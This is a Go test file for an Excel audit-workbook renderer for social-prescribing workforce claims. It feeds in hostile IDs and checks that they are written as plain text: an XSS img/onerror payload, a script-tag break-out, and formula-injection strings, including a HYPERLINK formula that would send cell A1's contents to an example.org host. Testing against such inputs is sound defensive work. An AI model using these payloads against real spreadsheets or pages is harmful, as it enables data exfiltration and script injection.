package xlsx_test

import (
	"bytes"
	"os"
	"path/filepath"
	"regexp"
	"strings"
	"testing"

	sp "github.com/socialprescribing/go-socialprescribing"
	"github.com/socialprescribing/go-socialprescribing/render/xlsx"
	"github.com/socialprescribing/go-socialprescribing/workforce"

	"github.com/xuri/excelize/v2"
)

// hostileReport audits claims whose IDs are valid but would be markup, a formula or a quote if
// written as they are.
func hostileReport() workforce.Report {
	ids := []string{`<img src=x onerror=alert(1)>`, `=HYPERLINK("http://example.org/?"&A1,"click")`, `@SUM(1+1)`, `"quoted" & 'single'`}
	in := workforce.Input{PCNs: []workforce.PCN{{ID: "</td><script>alert(2)</script>", ListSize: 40000}}}
	for _, id := range ids {
		in.Staff = append(in.Staff, workforce.StaffMember{ID: id, PCN: in.PCNs[0].ID, Role: sp.RoleLinkWorker, Employment: workforce.EmploymentDirect,
			Start: sp.MustParseDate("2023-04-01"), WTE: []workforce.WTEPeriod{{From: sp.MustParseDate("2023-04-01"), WTE: workforce.MustParseWTE("1")}}})
		in.Claims = append(in.Claims, workforce.Claim{PCN: in.PCNs[0].ID, Staff: id, Month: sp.MustParseDate("2023-07-01"),
			Salary: workforce.MustParseMoney("5000.00"), EmployerNationalInsurance: workforce.MustParseMoney("0.00"), EmployerPension: workforce.MustParseMoney("0.00")})
	}
	return workforce.Audit(in, workforce.DefaultRules())
}

// TestAuditWorkbook reads the workbook back: the sheets, amounts as numbers with two decimals, IDs
// as text (never a formula), a frozen header and a table with filters on each sheet.
func TestAuditWorkbook(t *testing.T) {
	t.Parallel()
	rep := hostileReport()
	var b bytes.Buffer
	if err := xlsx.AuditWorkbook(&b, rep); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	if got, want := strings.Join(f.GetSheetList(), ","), "Summary,Lines,Findings,PCN years,Rules"; got != want {
		t.Errorf("sheets: got %s, want %s", got, want)
	}
	rows, err := f.GetRows("Lines")
	if err != nil {
		t.Fatal(err)
	}
	if len(rows) != len(rep.Lines)+1 || rows[0][0] != "Claim" {
		t.Fatalf("Lines: got %d rows starting %v, want a header and %d lines", len(rows), rows[0], len(rep.Lines))
	}
	for r := 2; r <= len(rows); r++ {
		for _, col := range []string{"A", "B", "C"} {
			cell := col + itoa(r)
			typ, _ := f.GetCellType("Lines", cell)
			formula, _ := f.GetCellFormula("Lines", cell)
			if formula != "" || (typ != excelize.CellTypeInlineString && typ != excelize.CellTypeSharedString) {
				t.Errorf("Lines!%s: type %v formula %q, want a text cell", cell, typ, formula)
			}
		}
		// Allowed (column Q) is a number shown with two decimals.
		typ, _ := f.GetCellType("Lines", "Q"+itoa(r))
		v, _ := f.GetCellValue("Lines", "Q"+itoa(r))
		if typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset {
			t.Errorf("Lines!Q%d: type %v, want a number", r, typ)
		}
		if !regexp.MustCompile(`^[0-9,]+\.[0-9]{2}$`).MatchString(v) {
			t.Errorf("Lines!Q%d shows %q, want two decimals", r, v)
		}
	}
	staff, _ := f.GetCellValue("Lines", "C2")
	found := false
	for _, l := range rep.Lines {
		found = found || l.Staff == staff
	}
	if !found {
		t.Errorf("Lines!C2 is %q, not a staff ID of the report", staff)
	}
	for _, sheet := range f.GetSheetList() {
		panes, err := f.GetPanes(sheet)
		if err != nil || !panes.Freeze || panes.YSplit != 1 {
			t.Errorf("%s: panes %+v, want the header row frozen", sheet, panes)
		}
		tables, err := f.GetTables(sheet)
		if err != nil || len(tables) != 1 || !strings.HasPrefix(tables[0].Range, "A1:") {
			t.Errorf("%s: tables %+v, want one from A1 (filters on the header)", sheet, tables)
		}
	}
}

func itoa(n int) string {
	s := ""
	for n > 0 || s == "" {
		s = string(rune('0'+n%10)) + s
		n /= 10
	}
	return s
}

// TestAuditWorkbookRulesAndPopulation: the Rules sheet has the sum rates' snapshot dates and the
// entitlements' largest list size; the weighted population is a number.
func TestAuditWorkbookRulesAndPopulation(t *testing.T) {
	t.Parallel()
	data, err := os.ReadFile(filepath.Join("..", "..", "examples", "auditor", "claims.json"))
	if err != nil {
		t.Fatal(err)
	}
	in, err := workforce.ParseInput(data)
	if err != nil {
		t.Fatal(err)
	}
	rep := workforce.Audit(in, workforce.DefaultRules())
	var b bytes.Buffer
	if err := xlsx.AuditWorkbook(&b, rep); err != nil {
		t.Fatal(err)
	}
	f, err := excelize.OpenReader(&b)
	if err != nil {
		t.Fatal(err)
	}
	defer f.Close()
	rows, err := f.GetRows("Rules")
	if err != nil {
		t.Fatal(err)
	}
	col := func(name string) int {
		for i, h := range rows[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("Rules has no column %q: %v", name, rows[0])
		return -1
	}
	snap, maxList, kind := col("Snapshot date"), col("Max list size"), col("Kind")
	var sawSnap, sawMax bool
	for _, r := range rows[1:] {
		get := func(i int) string {
			if i < len(r) {
				return r[i]
			}
			return ""
		}
		switch get(kind) {
		case workforce.RuleKindSumRate:
			sawSnap = sawSnap || get(snap) == "2023-01-01"
		case workforce.RuleKindEntitlement:
			sawMax = sawMax || strings.ReplaceAll(get(maxList), ",", "") == "100000"
		}
	}
	if !sawSnap || !sawMax {
		t.Errorf("Rules: snapshot date 2023-01-01 shown %v, max list size 100000 shown %v; rows %v", sawSnap, sawMax, rows)
	}
	years, err := f.GetRows("PCN years")
	if err != nil {
		t.Fatal(err)
	}
	popCol := -1
	for i, h := range years[0] {
		if h == "Weighted population" {
			popCol = i
		}
	}
	cell, _ := excelize.CoordinatesToCellName(popCol+1, 2)
	typ, _ := f.GetCellType("PCN years", cell)
	v, _ := f.GetCellValue("PCN years", cell)
	if (typ != excelize.CellTypeNumber && typ != excelize.CellTypeUnset) || v != "45,123.2500" {
		t.Errorf("PCN years!%s: type %v value %q, want the number 45,123.2500", cell, typ, v)
	}
}
